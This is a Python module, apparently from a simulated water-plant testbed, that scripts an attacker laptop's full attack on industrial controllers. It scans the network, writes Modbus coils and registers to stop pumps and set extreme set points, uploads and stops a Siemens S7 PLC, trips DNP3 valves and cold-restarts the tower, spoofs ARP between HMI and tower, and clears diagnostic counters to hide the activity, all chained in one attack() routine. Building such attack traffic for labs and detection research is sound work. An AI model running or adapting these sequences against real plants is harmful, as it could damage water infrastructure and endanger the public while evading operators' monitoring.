"""Somebody's laptop: looks round, asks who is who, reads, then writes, operates, restarts and stops."""

from __future__ import annotations

import struct
import time
from typing import TYPE_CHECKING

from snap7.type import Block

from . import dnp3_master, modbus_client, s7_client, scan
from .plant import HOSTS, SUBNET, address

if TYPE_CHECKING:
    from .story import Story

PAUSE = 0.15  # seconds between two commands of a script
VICTIMS = ("hmi", "historian", "engineer", "intake", "booster", "filter", "tower")


def look_round(story: Story) -> None:
    """Sweep the addresses, then the ports of what answered."""

    def sweep() -> str:
        scan.arp_sweep("laptop")
        return "accepted"

    story.act(SUBNET, "other", "arp", f"arp_sweep addresses=254 found={len(HOSTS) - 1}", sweep)
    for name in VICTIMS:
        began = time.time_ns()
        found = scan.port_scan(address(name))
        said = ",".join(map(str, found)) or "none"
        story.tell(name, "other", "tcp", f"port_scan ports={len(scan.PORTS)} open={said}", "accepted", began)


def sweep_units(story: Story, target: str = "booster", units: range = range(1, 21)) -> None:
    """Ask each unit behind the gateway for one register: who is there?"""
    session = modbus_client.Session(story, target)
    for unit in units:
        session.act("read_holding_registers", device_id=unit, address=0, count=1)
    session.close()


def probe_functions(story: Story, target: str = "intake") -> None:
    """Try what the device can do, and where its registers end."""
    session = modbus_client.Session(story, target)
    session.act("read_exception_status", device_id=1)
    session.act("diag_query_data", device_id=1, msg=b"\xa5\x37")
    session.act("report_device_id", device_id=1)
    session.act("diag_get_comm_event_counter", device_id=1)
    session.act("diag_get_comm_event_log", device_id=1)
    session.act("read_fifo_queue", device_id=1, address=4)
    for start in (0, 100, 1000, 4000, 10_000, 40_000):
        session.act("read_holding_registers", device_id=1, address=start, count=10)
        session.act("read_coils", device_id=1, address=start, count=10)
        time.sleep(PAUSE)
    session.close()


def identify_modbus(story: Story) -> None:
    """Ask both Modbus servers who they are."""
    for target in ("intake", "booster"):
        session = modbus_client.Session(story, target)
        session.act("read_device_information", device_id=1, read_code=1)
        session.act("report_device_id", device_id=1)
        session.close()


def write_modbus(story: Story) -> None:
    """Stop a pump, move set points, try a protected and an absent register."""
    session = modbus_client.Session(story, "intake")
    session.act("write_coil", device_id=1, address=0, value=False)
    time.sleep(PAUSE)
    session.act("write_register", device_id=1, address=0, value=9999)
    session.act("write_registers", device_id=1, address=4, values=[65_535, 0])
    session.act("write_coils", device_id=1, address=0, values=[False] * 8)
    session.act("mask_write_register", device_id=1, address=1, and_mask=0x00FF, or_mask=0x2000)
    session.act("readwrite_registers", device_id=1, read_address=0, read_count=4, write_address=2, values=[1000])
    time.sleep(PAUSE)
    session.act("write_register", device_id=1, address=15, value=1)
    session.act("write_register", device_id=1, address=400, value=1)
    session.close()


def chatter(story: Story) -> None:
    """Switch one pump on and off, again and again."""
    session = modbus_client.Session(story, "intake")
    for turn in range(12):
        session.act("write_coil", device_id=1, address=1, value=turn % 2 == 0)
        time.sleep(PAUSE)
    session.close()


def identify_s7(story: Story) -> None:
    """Try the slots, then read who the controller is, its blocks and what it measures."""
    for slot in (0, 1, 3, 2):
        session = s7_client.Session(story, "filter", s7_client.PG, slot)
        if slot != s7_client.SLOT:
            session.close()
        time.sleep(PAUSE)
    for number in (0x0011, 0x001C, 0x0424):
        session.szl(number)
    session.act("diagnose", "block_list", "list_blocks")
    session.act("read", "read_var DB1.DBB0-63", "db_read", 1, 0, 64)
    session.act("read", "read_var DB99.DBB0-3", "db_read", 99, 0, 4)
    session.act("read", "read_var QB0-7", "ab_read", 0, 8)
    session.close()


def write_s7(story: Story) -> None:
    """Overwrite set points, outputs and flags; DB99 is refused."""
    session = s7_client.Session(story, "filter", s7_client.PG)
    session.act("write", "write_var DB2.DBB0-3", "db_write", 2, 0, bytearray(struct.pack(">f", 99.0)))
    time.sleep(PAUSE)
    session.act("write", "write_var QB0-1", "ab_write", 0, bytearray(b"\xff\xff"))
    session.act("write", "write_var MB0-0", "mb_write", 0, 1, bytearray(b"\x01"))
    session.act("write", "write_var DB99.DBB0-3", "db_write", 99, 0, bytearray(4))
    session.close()


def steal_program(story: Story) -> None:
    """Upload the filter programme."""
    session = s7_client.Session(story, "filter", s7_client.PG)
    session.act("program_upload", "start_upload block=DB10", "full_upload", Block.DB, 10)
    session.close()


def stop_s7(story: Story) -> None:
    """Stop the filter controller and see that it stands."""
    session = s7_client.Session(story, "filter", s7_client.PG)
    session.szl(0x0424)
    session.act("stop", "plc_stop", "plc_stop")
    time.sleep(1)
    session.szl(0x0424)
    session.close()


def _take_line(story: Story) -> dnp3_master.Master:
    """Connect to the tower as if from the control room, which loses its connection."""
    master = dnp3_master.Master(story, "tower")
    master.start()
    return master


def operate_dnp3(story: Story) -> None:
    """Operate both valves directly, move the alarm, try an absent point, operate once without asking for an answer."""
    master = _take_line(story)
    master.operate(dnp3_master.TRIP, 0, select=False)
    time.sleep(PAUSE)
    master.operate(dnp3_master.TRIP, 1, select=False)
    master.set_point(32_000, 0, select=False)
    master.operate(dnp3_master.LATCH_ON, 3, select=False)
    master.operate_silently(dnp3_master.LATCH_OFF, 1)
    time.sleep(PAUSE)
    master.close()


def restart_dnp3(story: Story, *, cold: bool = True) -> None:
    """Restart the tower."""
    master = _take_line(story)
    master.restart(cold=cold)
    master.close()


def silence_dnp3(story: Story) -> None:
    """Forbid the tower to report by itself, and hold the line so that nobody allows it again."""
    master = _take_line(story)
    time.sleep(2)
    master.disable_unsolicited()
    time.sleep(12)
    master.close()


def spoof_arp(story: Story) -> None:
    """Stand between control room and tower for five seconds, passing nothing on."""

    for told, claimed in (("hmi", "tower"), ("tower", "hmi")):
        story.tell(told, "other", "arp", f"arp_reply address={address(claimed)} claimed_by=laptop", "no_answer_due")
    scan.spoof("laptop", "hmi", "tower", seconds=5)


def silence_modbus(story: Story) -> None:
    """Clear the counters that would show it, make the wells deaf, and wake them some seconds later."""
    session = modbus_client.Session(story, "intake")
    session.act("diag_clear_counters", device_id=1)
    time.sleep(PAUSE)
    session.act("diag_restart_communication", device_id=1, toggle=True)
    time.sleep(PAUSE)
    session.act("diag_force_listen_only", device_id=1)
    time.sleep(3)
    session.act("diag_restart_communication", device_id=1, toggle=False)
    session.close()


def attack(story: Story) -> None:
    """Do all of it, in the order of a textbook."""
    for deed, rest in (
        (look_round, 2.0),
        (identify_modbus, 1.0),
        (sweep_units, 1.0),
        (probe_functions, 1.0),
        (identify_s7, 2.0),
        (steal_program, 2.0),
        (write_modbus, 2.0),
        (chatter, 2.0),
        (write_s7, 2.0),
        (operate_dnp3, 1.0),
        (restart_dnp3, 3.0),
        (stop_s7, 1.0),
        (silence_modbus, 0.0),
    ):
        deed(story)
        time.sleep(rest)
